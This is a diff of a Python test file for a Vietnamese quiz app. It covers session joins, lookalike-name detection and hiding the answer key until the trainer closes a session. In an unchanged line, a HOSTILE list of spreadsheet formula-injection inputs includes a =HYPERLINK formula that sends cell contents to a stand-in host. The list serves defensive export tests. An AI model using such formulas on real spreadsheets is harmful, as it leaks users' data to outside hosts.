@@ -4,6 +4,7 @@ exports, and a Vietnamese message for every malformed value an API caller can se
 from __future__ import annotations
 
 import csv
+import dataclasses
 import json
 import sqlite3
 
@@ -13,7 +14,7 @@ from openpyxl import load_workbook
 from corpus.errors import QuizError
 from quiz.db import QuizDB
 from quiz.results import export_results
-from quiz.sessions import MAX_NAME_CHARS, SessionStore
+from quiz.sessions import MAX_NAME_CHARS, SessionStore, name_key
 from tests.quiz.session_items import sample_items
 
 HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -69,8 +70,7 @@ def test_one_attempt_per_name_resumed_only_from_the_same_browser(store):
         store.join(code, "Nguyễn Văn An", "", "")  # no browser id at all (a bare API call)
     # From the same browser: the same attempt, still handed in, no retake.
     again = store.join(code, "nguyễn văn an", "", "browser-a")
-    assert again.token == first.token and again.finished
-    assert store.result(code, again.token) == result
+    assert again.token == first.token and again.finished and again.answers == result.answers
     board = store.dashboard(code, key)
     assert [r.name for r in board.leaderboard] == ["Nguyễn Văn An"] and board.answers == 4
 
@@ -78,7 +78,8 @@ def test_one_attempt_per_name_resumed_only_from_the_same_browser(store):
 def test_unfinished_attempt_resumes_with_its_answers(store):
     code, _ = store.create(sample_items())
     first = store.join(code, "Trần Thị Bình", "", "tab-1")
-    store.answer(code, first.token, first.questions[0].position, first.questions[0].options[0])
+    q = next(q for q in first.questions if q.type != "matching")  # one option is a whole answer
+    store.answer(code, first.token, q.position, q.options[0])
     again = store.join(code, "Trần Thị Bình", "", "tab-1")
     assert (again.token, again.answers, again.finished) == (first.token, first.answers | again.answers, False)
     assert len(again.answers) == 1
@@ -97,13 +98,17 @@ def test_retake_only_when_the_trainer_allows_it_and_replaces_the_attempt(store, 
 
 
 def test_key_shown_at_review_only_when_allowed(store):
-    hidden_code, _ = store.create(sample_items())
-    hidden, _ = hand_in_all_right(store, hidden_code, "An", "b")
+    hidden_code, hidden_key = store.create(sample_items())
+    _, attempt = hand_in_all_right(store, hidden_code, "An", "b")
+    store.close(hidden_code, hidden_key)
+    hidden = store.result(hidden_code, attempt.token)
     assert not hidden.show_key and hidden.correct == 4
-    assert all(r.answer == r.explanation == r.citation == "" and r.given for r in hidden.review)
-    shown_code, _ = store.create(sample_items(), show_key=True)
-    shown, _ = hand_in_all_right(store, shown_code, "An", "b")
-    assert shown.show_key and all(r.answer and r.explanation and r.citation for r in shown.review)
+    assert all(r.answer == r.explanation == r.citation == "" and r.correct is None and r.given for r in hidden.review)
+    shown_code, shown_key = store.create(sample_items(), show_key=True)
+    _, attempt = hand_in_all_right(store, shown_code, "An", "b")
+    store.close(shown_code, shown_key)
+    shown = store.result(shown_code, attempt.token)
+    assert shown.show_key and all(r.answer and r.explanation and r.citation and r.correct for r in shown.review)
 
 
 @pytest.mark.parametrize(
@@ -154,6 +159,90 @@ def test_migration_keeps_old_duplicate_names_and_shows_the_key_in_old_sessions(t
     conn.close()
     store = SessionStore(QuizDB(path))
     assert [r.name for r in store.dashboard("ABCDEF", "k").leaderboard] == ["nguyen an", "Nguyễn An"]
+    store.close("ABCDEF", "k")
     assert store.result("ABCDEF", "tok1").show_key
+    reopened = SessionStore(QuizDB(path))
+    with reopened.db.write() as conn:
+        conn.execute("UPDATE sessions SET closed_at = NULL")
     with pytest.raises(QuizError, match="đã có người dùng"):
-        store.join("ABCDEF", "Nguyen An", "", "b")  # the name is taken, by either spelling
+        reopened.join("ABCDEF", "Nguyen An", "", "b")  # the name is taken, by either spelling
+
+
+@pytest.mark.parametrize("show_key", [False, True])
+def test_throwaway_attempts_learn_nothing_while_the_session_is_open(store, show_key):
+    """Three attempts under made-up names, each answering differently, then handed in: what they
+    get back is the same whichever options they chose, so a fourth attempt learns no key."""
+    items = sample_items()
+    code, key = store.create(items, show_key=show_key, shuffle=False)
+    seen = []
+    for i, pick in enumerate((lambda it: it.answer, lambda it: next(o for o in it.options if o != it.answer), lambda it: it.options[-1])):
+        attempt = store.join(code, f"Người trễ giờ {i}", "", f"trinh-duyet-{i}")
+        for q in attempt.questions:
+            item = items[q.position]
+            choice = pick(item) if item.type != "matching" else [r for _, r in item.pairs][:: 1 if i == 0 else -1]
+            store.answer(code, attempt.token, q.position, choice)
+        done = store.finish(code, attempt.token)
+        with pytest.raises(QuizError, match="Kết quả sẽ có khi báo cáo viên đóng phiên thi"):
+            store.result(code, attempt.token)
+        seen.append(dataclasses.replace(done, token="", name="", answers={}))
+    assert seen[0] == seen[1] == seen[2]
+    # The trainer sees the truth; once closed, each attempt gets its score.
+    assert [r.correct for r in store.dashboard(code, key).leaderboard][0] == 4
+    store.close(code, key)
+    assert store.result(code, store.join(code, "Người trễ giờ 0", "", "trinh-duyet-0").token).correct == 4
+
+
+def test_one_browser_joins_once_whatever_the_name(store):
+    code, _ = store.create(sample_items())
+    first = store.join(code, "Người trễ giờ", "", "mot-trinh-duyet")
+    with pytest.raises(QuizError, match="Trình duyệt này đã vào phiên thi với tên «Người trễ giờ»"):
+        store.join(code, "Người trễ giờ 2", "", "mot-trinh-duyet")
+    assert store.join(code, "nguoi tre gio", "", "mot-trinh-duyet").token == first.token
+
+
+@pytest.mark.parametrize(
+    "lookalike",
+    [
+        "Nguyen\u2060 Van An",  # an invisible word joiner
+        "Ngu\u200byen Van An",  # a zero-width space
+        "Nguy\u0435n Van An",  # Cyrillic е
+        "\uff2e\uff47\uff55\uff59\uff45\uff4e Van An",  # fullwidth letters
+        "Nguyen V\u0430n \u0410n",  # Cyrillic а and А
+        "Nguyen\u3164Van An",  # a Hangul filler that renders as a space
+    ],
+)
+def test_names_that_look_the_same_are_the_same_name(store, lookalike):
+    code, key = store.create(sample_items())
+    store.join(code, "Nguyễn Văn An", "", "b1")
+    with pytest.raises(QuizError, match="đã có người dùng"):
+        store.join(code, lookalike, "", "b2")
+    assert [r.name for r in store.dashboard(code, key).leaderboard] == ["Nguyễn Văn An"]
+    assert name_key(lookalike) == name_key("Nguyễn Văn An") == "nguyen van an"
+
+
+def test_answer_change_is_a_trainer_option(store):
+    items = sample_items()
+    code, _ = store.create(items, shuffle=False, allow_change=False)
+    attempt = store.join(code, "An", "", "b")
+    assert not attempt.allow_change
+    store.answer(code, attempt.token, 1, "Đúng")
+    with pytest.raises(QuizError, match="không cho đổi câu trả lời"):
+        store.answer(code, attempt.token, 1, "Sai")
+    assert store.attempt(code, attempt.token).answers == {1: "Đúng"}
+    code, _ = store.create(items, shuffle=False)  # the default: changeable until hand-in
+    attempt = store.join(code, "An", "", "b")
+    store.answer(code, attempt.token, 1, "Đúng")
+    store.answer(code, attempt.token, 1, "Sai")
+    assert attempt.allow_change and store.attempt(code, attempt.token).answers == {1: "Sai"}
+
+
+def test_matching_answers_name_each_item_once(store):
+    items = sample_items()
+    code, key = store.create(items, shuffle=False)
+    token = store.join(code, "An", "", "b").token
+    position = next(i for i, it in enumerate(items) if it.type == "matching")
+    rights = [r for _, r in items[position].pairs]
+    for bad in ([rights[0]], [rights[0]] * len(rights), rights + rights[:1]):
+        with pytest.raises(QuizError, match="mỗi mục một lần"):
+            store.answer(code, token, position, bad)
+    assert store.dashboard(code, key).answers == 0
